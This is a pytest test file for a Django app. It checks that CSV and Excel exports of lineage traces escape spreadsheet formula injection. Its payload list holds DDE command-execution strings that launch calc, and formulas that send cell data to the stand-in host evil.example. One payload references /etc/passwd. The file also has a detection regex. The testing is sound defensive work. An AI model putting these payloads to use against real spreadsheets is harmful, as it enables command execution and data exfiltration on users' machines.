"""Names that a spreadsheet would run, through the very page that hands a trace over as CSV or as a workbook.

The CSV is read as a spreadsheet reads it: with our comma, and with the semicolon and tab of other countries' settings.
"""

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from lineage.exports.text import LIVE, inert
from lineage.vocabulary import AccountKind
from tests.factories import make_artifact, make_author, make_derivation, make_mention
from tests.lineage.readers import signed_in

pytestmark = pytest.mark.django_db
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=IMAGE("https://evil.example/x.png")',
    '=DDE("cmd";"/C calc";"__Detail")',
    "='file:///etc/passwd'#$passwd.A1",
    "=SUM(1;1)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '"=1+1"',
    '","=1+1',
    ';=cmd|" /C calc"!A0',
    "a;=1+1;b",
    "a\t=1+1",
    "a\r\n=1+1,x",
]
RUNS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")  # how a cell begins that some program takes for a formula


def test_there_are_thirty():
    assert len(set(PAYLOADS)) == 30


@pytest.fixture(params=PAYLOADS, ids=repr)
def files(request):
    """Both files of one trace in which the payload is every text that came from the Hub."""
    payload = request.param
    author = make_author(payload, kind=AccountKind.ORGANISATION, full_name=payload)
    origin = make_artifact(payload, author=author, license=payload[:64], task=payload[:64], tags=[payload])
    child = make_artifact(f"{payload}/x", author=author, library=payload[:64], languages=[payload])
    make_mention(child, payload)
    make_derivation(origin, child)
    make_derivation(child, make_artifact("org/leaf"))
    client = signed_in()
    bodies = {}
    for suffix in ("csv", "xlsx"):
        answer = client.get(reverse("lineage:trace_file", args=[origin.pk, suffix]))
        assert answer.status_code == 200
        bodies[suffix] = b"".join(answer)
    return bodies


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_csv_runs(files, delimiter):
    text = files["csv"].decode()
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert len(rows) >= 3
    assert [cell for row in rows for cell in row if RUNS.match(cell)] == []


def test_no_cell_of_the_workbook_runs(files):
    book = openpyxl.load_workbook(io.BytesIO(files["xlsx"]))
    cells = [cell for sheet in book for row in sheet for cell in row]
    assert len(cells) > 20
    assert not any(cell.data_type == "f" or cell.hyperlink for cell in cells)
    assert [cell.value for cell in cells if isinstance(cell.value, str) and RUNS.match(cell.value)] == []


def test_what_is_harmless_stays_as_it_is():
    for name in ("org/model", "org/a-b", "a.b/c_d", "3d/x", "compte-7f3k2q/x", "", "élan/x", "a=b/c+d@e"):
        assert inert(name) == name


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_the_text_can_be_had_back(payload):
    """Nothing is lost: only apostrophes come in."""
    assert inert(payload).replace("'", "") == payload.replace("'", "")
    assert not inert(payload).startswith(LIVE)
